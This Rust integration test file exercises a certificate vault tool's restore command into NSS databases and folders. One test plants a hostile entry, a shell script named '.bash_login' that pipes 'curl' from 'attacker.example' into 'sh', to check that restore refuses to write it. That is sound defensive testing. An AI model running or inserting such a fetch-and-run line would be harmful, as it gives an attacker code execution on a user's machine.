//! `certvault restore` through the real binary, into real NSS databases made by the tests and
//! read back with `certutil` (Debian's libnss3-tools): fresh and existing databases, the
//! stored PIN, the file target, a second restore, the bad inputs of the restore issue, that no
//! copy of the certificate or PIN is left in temp folders, and an interactive restore on a
//! pseudo-terminal.

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::SystemTime;

use common::*;
use serde_json::Value;

const PASSPHRASE: &str = "sakura umbrella kettle nineteen";

/// A test's own folder: inputs (a certificate made for this test with a PIN no other file
/// has), a vault, a private TMPDIR and state folder for certvault, and room for databases.
struct Setup {
    tmp: tempfile::TempDir,
    inputs: PathBuf,
    vault: PathBuf,
    pass: PathBuf,
    /// The unique PIN and the file holding it.
    pin: String,
    pin_file: PathBuf,
    p12: Vec<u8>,
    /// Entry id of the unique certificate.
    id: String,
    pin_code_file: PathBuf,
    /// SHA-1 of the leaf as openssl prints it (AB:CD:…).
    sha1: String,
    started: SystemTime,
}

fn unique_pin() -> String {
    let nanos = SystemTime::now().duration_since(SystemTime::UNIX_EPOCH).unwrap().subsec_nanos();
    format!("73{:09}{:03}", nanos % 1_000_000_000, std::process::id() % 1000)
}

impl Setup {
    fn new() -> Setup {
        let started = SystemTime::now();
        let tmp = tempfile::tempdir().unwrap();
        let inputs = tmp.path().join("inputs");
        for d in ["inputs", "tmp", "state", "home"] {
            std::fs::create_dir_all(tmp.path().join(d)).unwrap();
        }
        let pin = unique_pin();
        let pin_file = inputs.join("pin.txt");
        std::fs::write(&pin_file, &pin).unwrap();
        let p12_path = inputs.join("202101010000777.p12");
        let st = Command::new("openssl")
            .args(["pkcs12", "-export", "-name", "certvault restore test", "-in"])
            .arg(fixture("leaf.crt"))
            .arg("-inkey")
            .arg(fixture("leaf.key"))
            .arg("-certfile")
            .arg(fixture("ca.crt"))
            .arg("-passout")
            .arg(format!("file:{}", pin_file.display()))
            .arg("-out")
            .arg(&p12_path)
            .status()
            .unwrap();
        assert!(st.success());
        let p12 = std::fs::read(&p12_path).unwrap();
        let vault = tmp.path().join("USB").join("CERTVAULT");
        let (pass, pin_code_file) = init_vault(&inputs, &vault, PASSPHRASE);
        let sha1 = after_eq(&openssl_x509("leaf.crt", &["-fingerprint", "-sha1"]));
        let mut s = Setup {
            tmp,
            inputs,
            vault,
            pass,
            pin,
            pin_file,
            p12,
            id: String::new(),
            pin_code_file,
            sha1,
            started,
        };
        s.id = s.add(&p12_path, &s.pin_file.clone(), &["--hint", "the clinic's fax number"]);
        s
    }

    fn dir(&self, name: &str) -> PathBuf {
        self.tmp.path().join(name)
    }

    fn add(&self, file: &Path, pin_file: &Path, extra: &[&str]) -> String {
        let out = certvault()
            .arg("add")
            .arg(file)
            .arg("--vault")
            .arg(&self.vault)
            .arg("--passphrase-file")
            .arg(&self.pass)
            .arg("--pin-file")
            .arg(pin_file)
            .args(extra)
            .assert()
            .success()
            .get_output()
            .stdout
            .clone();
        entry_id_in(&out)
    }

    /// `certvault restore` with this test's TMPDIR, HOME and state folder.
    fn restore(&self, args: &[&str]) -> assert_cmd::Command {
        let mut c = certvault();
        c.env("TMPDIR", self.dir("tmp"))
            .env("HOME", self.dir("home"))
            .env("XDG_STATE_HOME", self.dir("state"))
            .arg("restore")
            .args(args)
            .arg("--vault")
            .arg(&self.vault)
            .arg("--passphrase-file")
            .arg(&self.pass);
        c
    }

    fn restore_json(&self, args: &[&str]) -> (Value, i32, String) {
        let out = self.restore(args).arg("--json").output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr).to_string();
        let v = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
        (v, out.status.code().unwrap_or(-1), stderr)
    }

    fn log_lines(&self) -> Vec<Value> {
        let path = self.dir("state").join("certvault/restore-log.jsonl");
        std::fs::read_to_string(path)
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }

    /// No file in the temp folders holds the certificate file or the PIN: not in this test's
    /// TMPDIR (which must be empty), nor anything new in /tmp, /var/tmp or /dev/shm outside the
    /// inputs and the vault of this test.
    fn assert_no_leftovers(&self) {
        let private_tmp: Vec<_> = std::fs::read_dir(self.dir("tmp")).unwrap().collect();
        assert!(private_tmp.is_empty(), "certvault left files in its TMPDIR: {private_tmp:?}");
        let allowed = [self.inputs.clone(), self.vault.clone()];
        for root in ["/tmp", "/var/tmp", "/dev/shm", self.tmp.path().to_str().unwrap()] {
            walk(Path::new(root), &mut |path| {
                if allowed.iter().any(|a| path.starts_with(a)) {
                    return;
                }
                let Ok(meta) = std::fs::metadata(path) else { return };
                if meta.len() > 16 * 1024 * 1024 || meta.modified().map_or(true, |m| m < self.started) {
                    return;
                }
                let Ok(bytes) = std::fs::read(path) else { return };
                let has = |needle: &[u8]| bytes.windows(needle.len()).any(|w| w == needle);
                assert!(!has(&self.p12), "{} holds the certificate file", path.display());
                assert!(!has(self.pin.as_bytes()), "{} holds the PIN", path.display());
            });
        }
    }
}

fn walk(dir: &Path, f: &mut dyn FnMut(&Path)) {
    let Ok(entries) = std::fs::read_dir(dir) else { return };
    for entry in entries.flatten() {
        let Ok(kind) = entry.file_type() else { continue };
        if kind.is_dir() {
            walk(&entry.path(), f);
        } else if kind.is_file() {
            f(&entry.path());
        }
    }
}

fn certutil(db: &Path, args: &[&str]) -> (bool, String) {
    let out = Command::new("certutil")
        .arg("-d")
        .arg(format!("sql:{}", db.display()))
        .args(args)
        .output()
        .expect("certutil runs (libnss3-tools)");
    (out.status.success(), String::from_utf8_lossy(&out.stdout).to_string())
}

/// What `certutil -L -n NICK` prints as the SHA-1 fingerprint(s) of the nickname.
fn certutil_sha1s(db: &Path, nickname: &str) -> Vec<String> {
    let (ok, text) = certutil(db, &["-L", "-n", nickname]);
    assert!(ok, "certutil -L -n {nickname}");
    let lines: Vec<&str> = text.lines().map(str::trim).collect();
    lines
        .iter()
        .enumerate()
        .filter(|(_, l)| l.starts_with("Fingerprint (SHA1):"))
        .filter_map(|(i, _)| lines.get(i + 1).map(|s| s.to_string()))
        .collect()
}

/// `certutil -L` (nickname, trust) pairs and the `certutil -K` key listing.
fn store_state(db: &Path) -> (String, String) {
    (certutil(db, &["-L"]).1, certutil(db, &["-K"]).1)
}

/// The NSS key id of the test certificate (SHA-1 of the RSA modulus), as certutil -K shows it.
fn key_id() -> String {
    let modulus = after_eq(&openssl_x509("leaf.crt", &["-modulus"]));
    let bytes: Vec<u8> =
        (0..modulus.len()).step_by(2).map(|i| u8::from_str_radix(&modulus[i..i + 2], 16).unwrap()).collect();
    let out = Command::new("openssl")
        .args(["dgst", "-sha1", "-r"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut c| {
            use std::io::Write;
            c.stdin.take().unwrap().write_all(&bytes)?;
            c.wait_with_output()
        })
        .unwrap();
    String::from_utf8(out.stdout).unwrap().split_whitespace().next().unwrap().to_string()
}

#[test]
fn restores_into_a_fresh_nss_database_and_reads_it_back() {
    let s = Setup::new();
    let db = s.dir("home/.pki/nssdb");
    let to = format!("nss:{}", db.display());
    let (report, code, stderr) = s.restore_json(&["--pin-file", s.pin_file.to_str().unwrap(), "--to", &to]);
    assert_eq!(code, 0, "{stderr}");
    assert!(stderr.contains("Created a new NSS database"), "{stderr}");
    let result = &report["results"][0];
    assert_eq!(result["entry"], s.id.as_str());
    assert_eq!(result["outcome"], "installed");
    assert_eq!(result["verified"], true);
    assert_eq!(result["leaf_sha1"], s.sha1.as_str());
    eprintln!("timings: {}", report["timings"]);

    // certutil -L: the certificate, as a user certificate (u = has its key), with the SHA-1
    // openssl computes for the leaf.
    let (listing, keys) = store_state(&db);
    let line = listing.lines().find(|l| l.starts_with("certvault restore test")).expect(&listing);
    assert!(line.trim_end().ends_with("u,u,u"), "{line}");
    assert_eq!(certutil_sha1s(&db, "certvault restore test"), vec![s.sha1.clone()]);
    // certutil -K: the private key, under the certificate's nickname and NSS's key id.
    let key_line = keys.lines().find(|l| l.contains(&key_id())).expect(&keys);
    assert!(key_line.contains("rsa") && key_line.contains("certvault restore test"), "{key_line}");
    // The CA root is imported but not trusted without --trust-root.
    assert!(stderr.contains("CA root SHA-1"), "{stderr}");
    assert!(listing.lines().any(|l| l.contains("(TEST)") && l.trim_end().ends_with(",,")), "{listing}");

    // The log says what, where, from which vault and generation; nothing secret.
    let log = s.log_lines();
    assert_eq!(log.len(), 1);
    assert_eq!(log[0]["entry"], s.id.as_str());
    assert_eq!(log[0]["vault_id"], report["vault_id"]);
    assert_eq!(log[0]["generation"], report["generation"]);
    assert_eq!(log[0]["target"], to.as_str());
    let log_text = std::fs::read_to_string(s.dir("state/certvault/restore-log.jsonl")).unwrap();
    assert!(!log_text.contains(&s.pin));

    s.assert_no_leftovers();
}

#[test]
fn a_second_restore_changes_nothing() {
    let s = Setup::new();
    let db = s.dir("db");
    let to = format!("nss:{}", db.display());
    let pin = s.pin_file.to_str().unwrap();
    s.restore(&["--pin-file", pin, "--to", &to, "--trust-root"]).assert().success();
    let before = store_state(&db);
    assert!(before.0.lines().any(|l| l.contains("(TEST)") && l.trim_end().ends_with("C,,")), "{}", before.0);
    let (report, code, stderr) = s.restore_json(&["--pin-file", pin, "--to", &to]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(report["results"][0]["outcome"], "already-installed");
    assert!(stderr.contains("already installed"), "{stderr}");
    assert_eq!(store_state(&db), before);
    assert_eq!(s.log_lines().len(), 1, "only the real install is logged");
    // Without any PIN at all: the store is checked before the PIN is needed.
    s.restore(&["--to", &to]).assert().success();
}

#[test]
fn a_wrong_pin_never_reaches_the_store() {
    let s = Setup::new();
    // An existing database the user already has, with another certificate in it.
    let db = s.dir("db");
    std::fs::create_dir_all(&db).unwrap();
    assert!(certutil(&db, &["-N", "--empty-password"]).0);
    let st = Command::new("pk12util")
        .arg("-i")
        .arg(fixture("hpki.p12"))
        .arg("-d")
        .arg(format!("sql:{}", db.display()))
        .arg("-w")
        .arg(fixture("hpki-pw.txt"))
        .output()
        .unwrap();
    assert!(st.status.success());
    let before = store_state(&db);

    let wrong = s.inputs.join("wrong.txt");
    std::fs::write(&wrong, "0000").unwrap();
    let out = s
        .restore(&["--pin-file", wrong.to_str().unwrap(), "--to", &format!("nss:{}", db.display())])
        .assert()
        .code(2);
    let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
    assert!(err.contains("does not open entry") && err.contains("has not seen it"), "{err}");
    assert_eq!(store_state(&db), before, "the database is as it was");
    assert!(s.log_lines().is_empty());

    // A fresh target is not even created.
    let fresh = s.dir("fresh");
    s.restore(&["--pin-file", wrong.to_str().unwrap(), "--to", &format!("nss:{}", fresh.display())])
        .assert()
        .code(2);
    assert!(!fresh.exists());
    s.assert_no_leftovers();
}

#[test]
fn the_stored_pin_opens_with_the_pin_code() {
    let s = Setup::new();
    let db = s.dir("db");
    let (report, code, stderr) = s.restore_json(&[
        "--pin-code-file",
        s.pin_code_file.to_str().unwrap(),
        "--to",
        &format!("nss:{}", db.display()),
    ]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(report["results"][0]["outcome"], "installed");
    assert!(report["timings"]["pin_code_seconds"].as_f64().unwrap() > 0.0);
    assert_eq!(certutil_sha1s(&db, "certvault restore test"), vec![s.sha1.clone()]);

    // A wrong PIN code: clear message, nothing installed.
    let db2 = s.dir("db2");
    let wrong = s.inputs.join("wrong-code.txt");
    let other = certvault_pin_code_of_another_vault(&s);
    std::fs::write(&wrong, other).unwrap();
    let out = s
        .restore(&["--pin-code-file", wrong.to_str().unwrap(), "--to", &format!("nss:{}", db2.display())])
        .assert()
        .code(2);
    let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
    assert!(err.contains("PIN code"), "{err}");
    assert!(!db2.exists());
}

fn certvault_pin_code_of_another_vault(s: &Setup) -> String {
    let dir = s.dir("other-vault");
    let rec = s.dir("other-recovery.txt");
    certvault()
        .args(["init", "--allow-fixed-disk", "--passphrase-file"])
        .arg(&s.pass)
        .arg("--recovery-out")
        .arg(&rec)
        .arg(&dir)
        .assert()
        .success();
    std::fs::read_to_string(&rec)
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix("PIN-CODE: ").map(String::from))
        .unwrap()
}

#[test]
fn the_file_target_writes_the_original_for_a_vendor() {
    let s = Setup::new();
    let out_dir = s.dir("for-vendor");
    std::fs::create_dir_all(&out_dir).unwrap();
    // No PIN needed: the file is written as sealed.
    let out = s.restore(&["--to", &format!("file:{}", out_dir.display())]).assert().success();
    let stdout = String::from_utf8_lossy(&out.get_output().stdout).to_string();
    assert!(stdout.contains("certvault clean"), "{stdout}");
    let written = out_dir.join("202101010000777.p12");
    assert_eq!(std::fs::read(&written).unwrap(), s.p12);
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(std::fs::metadata(&written).unwrap().permissions().mode() & 0o777, 0o600);
    assert_eq!(s.log_lines()[0]["target"], format!("file:{}", out_dir.display()).as_str());
    // A different file of that name is never overwritten.
    std::fs::write(&written, b"something else").unwrap();
    s.restore(&["--to", &format!("file:{}", out_dir.display())]).assert().code(2);
    assert_eq!(std::fs::read(&written).unwrap(), b"something else");
}

/// A generation written by someone who holds the vault's key (a hostile vault): the entry
/// `id` gets `bytes` (with its SHA-256 and id, so the generation is valid) and `name` as its
/// original file name. Gives the new entry id.
fn write_hostile_generation(s: &Setup, id: &str, bytes: &[u8], name: &str) -> String {
    use certvault_core::vault::{OpenVault, Unlock};
    let unlock = Unlock::Passphrase(secrecy::SecretString::from(PASSPHRASE.to_string()));
    let vault = OpenVault::open(&s.vault, &unlock, false).unwrap_or_else(|e| panic!("{:?}", e));
    let mut payload = vault.payload.clone();
    let sha256 = vault_format::manifest::sha256_hex(bytes);
    let new_id = sha256[..12].to_string();
    payload.manifest = payload.manifest.next_generation("2026-06-01T00:00:00Z".into());
    let entry = payload.manifest.entries.iter_mut().find(|e| e.id == id).unwrap();
    entry.id = new_id.clone();
    entry.original_file_name = name.to_string();
    entry.size = bytes.len() as u64;
    entry.sha256 = sha256;
    entry.pin_stored = false;
    payload.certs.remove(id);
    payload.pins.remove(id);
    payload.certs.insert(new_id.clone(), bytes.to_vec());
    let sealed = vault_format::seal_generation(&payload, &vault.identity().to_public()).unwrap();
    let file = s.vault.join(vault_format::generation_file_name(payload.manifest.generation));
    std::fs::write(file, sealed).unwrap();
    new_id
}

/// A hostile vault cannot make `--to file:DIR` write what it likes where it likes: an entry
/// that is not PKCS#12 (a shell script named `.bash_login`) is refused before anything is
/// written; a real certificate file's name is kept to a safe set (no hidden dot file, a
/// `.p12` extension).
#[test]
fn the_file_target_writes_only_certificate_files_under_safe_names() {
    let s = Setup::new();
    let home = s.dir("home");
    let target = format!("file:{}", home.display());
    let script = b"#!/bin/sh\ncurl -s https://attacker.example/x | sh\n";
    let id = write_hostile_generation(&s, &s.id, script, ".bash_login");
    let out = s.restore(&[&id, "--to", &target]).output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains(&id) && stderr.contains("not a PKCS#12"), "{stderr}");
    assert_eq!(std::fs::read_dir(&home).unwrap().count(), 0, "nothing is written: {stderr}");

    // The same name on a real certificate file: written, but not as a hidden dot file.
    let id = write_hostile_generation(&s, &id, &s.p12, ".bash_login");
    let out = s.restore(&[&id, "--to", &target]).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let names: Vec<String> = std::fs::read_dir(&home)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names, ["bash_login.p12"]);
    assert_eq!(std::fs::read(home.join("bash_login.p12")).unwrap(), s.p12);
}

/// `--to file:` never writes the certificate into the vault folder, where it would lie
/// unencrypted on the stick.
#[test]
fn the_file_target_refuses_the_vault_folder() {
    let s = Setup::new();
    let before: Vec<_> = std::fs::read_dir(&s.vault).unwrap().map(|e| e.unwrap().file_name()).collect();
    for target in [s.vault.clone(), s.vault.join("copy.p12")] {
        let out = s.restore(&["--to", &format!("file:{}", target.display())]).output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{}: {stderr}", target.display());
        assert!(stderr.contains("inside the vault folder"), "{stderr}");
    }
    let after: Vec<_> = std::fs::read_dir(&s.vault).unwrap().map(|e| e.unwrap().file_name()).collect();
    assert_eq!(after, before);
}

#[test]
fn expired_and_superseded_certificates_need_a_yes() {
    let s = Setup::new();
    // The expired certificate of the same clinic is superseded by the current one.
    let expired = s.add(&fixture("expired.p12"), &fixture("pin.txt"), &[]);
    let db = s.dir("db");
    let to = format!("nss:{}", db.display());
    let pin = fixture("pin.txt");
    // Proposed by default: the current certificate only.
    let (report, code, stderr) = s.restore_json(&["--pin-file", s.pin_file.to_str().unwrap(), "--to", &to]);
    assert_eq!(code, 0, "{stderr}");
    let ids: Vec<&str> =
        report["results"].as_array().unwrap().iter().map(|r| r["entry"].as_str().unwrap()).collect();
    assert_eq!(ids, vec![s.id.as_str()]);

    // Named explicitly: refused without --yes, with the reason.
    let out = s.restore(&[&expired, "--pin-file", pin.to_str().unwrap(), "--to", &to]).assert().code(2);
    let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
    assert!(err.contains("EXPIRED") && err.contains("--yes"), "{err}");
    let (report, code, stderr) =
        s.restore_json(&[&expired, "--pin-file", pin.to_str().unwrap(), "--to", &to, "--yes"]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(report["results"][0]["outcome"], "installed");
}

#[test]
fn missing_tools_and_unwritable_stores_are_said_first() {
    let s = Setup::new();
    // No pk12util on PATH: said before any secret is read (the passphrase file does not exist).
    let empty = s.dir("empty-path");
    std::fs::create_dir_all(&empty).unwrap();
    let out = certvault()
        .env("PATH", &empty)
        .args(["restore", "--vault"])
        .arg(&s.vault)
        .args(["--passphrase-file", "/nonexistent/pass.txt", "--to"])
        .arg(format!("nss:{}", s.dir("db").display()))
        .assert()
        .code(2);
    let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
    assert!(err.contains("pk12util was not found") && err.contains("libnss3-tools"), "{err}");

    // A read-only medium for the database (needs root for mount, as CI has).
    let mnt = s.dir("ro");
    std::fs::create_dir_all(&mnt).unwrap();
    let _guard = common::Tmpfs::mount(&mnt, "ro,size=64k");
    let out = s
        .restore(&[
            "--pin-file",
            s.pin_file.to_str().unwrap(),
            "--to",
            &format!("nss:{}", mnt.join("nssdb").display()),
        ])
        .assert()
        .code(2);
    let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
    assert!(err.contains("cannot be written"), "{err}");
}

#[test]
fn a_database_with_a_password() {
    let s = Setup::new();
    let db = s.dir("db");
    std::fs::create_dir_all(&db).unwrap();
    let db_pw = s.inputs.join("db-pw.txt");
    std::fs::write(&db_pw, "firefox primary 1\n").unwrap();
    assert!(certutil(&db, &["-N", "-f", db_pw.to_str().unwrap()]).0);
    let to = format!("nss:{}", db.display());
    let pin = s.pin_file.to_str().unwrap();
    let out = s.restore(&["--pin-file", pin, "--to", &to]).assert().code(2);
    let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
    assert!(err.contains("protected by a password") && err.contains("--store-password-file"), "{err}");
    s.restore(&["--pin-file", pin, "--to", &to, "--store-password-file", db_pw.to_str().unwrap()])
        .assert()
        .success();
    let (_, keys) = certutil(&db, &["-K", "-f", db_pw.to_str().unwrap()]);
    assert!(keys.contains(&key_id()), "{keys}");
}

#[test]
fn an_interactive_restore_on_a_terminal() {
    let s = Setup::new();
    // Two sticks: this test's vault and another one.
    let media = s.dir("media");
    let (stick_a, stick_b) = (media.join("a"), media.join("b"));
    std::fs::create_dir_all(&stick_a).unwrap();
    std::fs::create_dir_all(&stick_b).unwrap();
    let status = Command::new("cp").arg("-r").arg(&s.vault).arg(stick_a.join("CERTVAULT")).status().unwrap();
    assert!(status.success());
    certvault()
        .args(["init", "--allow-fixed-disk", "--passphrase-file"])
        .arg(&s.pass)
        .arg("--recovery-out")
        .arg(s.dir("b-recovery.txt"))
        .arg(stick_b.join("CERTVAULT"))
        .assert()
        .success();
    let db = s.dir("db");
    let script = serde_json::json!([
        ["Which vault\\? Type its number", "1"],
        ["Vault passphrase:", PASSPHRASE],
        ["or q to stop:", ""],
        ["PIN of entry", "1234"],
        ["Try the PIN again", s.pin],
        ["Add this CA root to your trusted roots\\?", "y"],
    ]);
    let script_file = s.inputs.join("dialog.json");
    std::fs::write(&script_file, script.to_string()).unwrap();
    let dialog = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/tools/pty_dialog.py");
    let roots = std::env::join_paths([&stick_a, &stick_b]).unwrap();
    let out = Command::new("python3")
        .arg(&dialog)
        .arg(&script_file)
        .arg("--")
        .arg(assert_cmd::cargo::cargo_bin("certvault"))
        .args(["restore", "--to"])
        .arg(format!("nss:{}", db.display()))
        .env("CERTVAULT_MEDIA_ROOTS", roots)
        .env("LANG", "C")
        .env_remove("LC_ALL")
        .env_remove("LC_MESSAGES")
        .env("TMPDIR", s.dir("tmp"))
        .env("HOME", s.dir("home"))
        .env("XDG_STATE_HOME", s.dir("state"))
        .output()
        .unwrap();
    let transcript = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(out.status.success(), "{transcript}");
    // The choice of vault, the hint, the wrong PIN (checked here, nothing locked), the root's
    // SHA-1, the confirmation read back from the store.
    assert!(transcript.contains("2 vaults were found"), "{transcript}");
    assert!(transcript.contains("Hint: the clinic's fax number"), "{transcript}");
    assert!(transcript.contains("That PIN does not open the certificate"), "{transcript}");
    assert!(transcript.contains("CA root SHA-1 thumbprint"), "{transcript}");
    // On a terminal the lines are broken to its width: compared with the breaks as spaces.
    let flowing = transcript.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(flowing.contains(&format!("confirmed: the store holds SHA-1 {}", s.sha1)), "{transcript}");
    // Neither the passphrase nor the PIN was echoed.
    assert!(!transcript.contains(PASSPHRASE) && !transcript.contains(&s.pin), "{transcript}");
    assert_eq!(certutil_sha1s(&db, "certvault restore test"), vec![s.sha1.clone()]);
    let (listing, _) = store_state(&db);
    assert!(listing.lines().any(|l| l.contains("(TEST)") && l.trim_end().ends_with("C,,")), "{listing}");
    s.assert_no_leftovers();
}

#[test]
fn messages_are_japanese_for_a_japanese_locale() {
    let s = Setup::new();
    let out = s
        .restore(&[
            "--lang",
            "ja",
            "--pin-file",
            s.inputs.join("nope.txt").to_str().unwrap(),
            "--to",
            "file:/nonexistent-dir/x.p12",
        ])
        .assert()
        .code(2);
    let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
    assert!(err.contains("フォルダー /nonexistent-dir がありません"), "{err}");
}

#[test]
fn ctrl_c_at_the_pin_prompt_leaves_nothing_behind() {
    let s = Setup::new();
    let db = s.dir("db");
    let script = serde_json::json!([
        ["Vault passphrase:", PASSPHRASE],
        ["or q to stop:", ""],
        ["PIN of entry", "\u{3}"],
    ]);
    let script_file = s.inputs.join("dialog.json");
    std::fs::write(&script_file, script.to_string()).unwrap();
    let dialog = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/tools/pty_dialog.py");
    let out = Command::new("python3")
        .arg(&dialog)
        .arg(&script_file)
        .arg("--")
        .arg(assert_cmd::cargo::cargo_bin("certvault"))
        .args(["--lang", "en", "restore", "--vault"])
        .arg(&s.vault)
        .arg("--to")
        .arg(format!("nss:{}", db.display()))
        .env("TMPDIR", s.dir("tmp"))
        .env("HOME", s.dir("home"))
        .env("XDG_STATE_HOME", s.dir("state"))
        .output()
        .unwrap();
    let transcript = String::from_utf8_lossy(&out.stdout).to_string();
    assert_eq!(out.status.code(), Some(2), "{transcript}");
    assert!(transcript.contains("stopped (Ctrl-C)"), "{transcript}");
    assert!(!db.exists(), "nothing was installed");
    assert!(s.log_lines().is_empty());
    s.assert_no_leftovers();
}
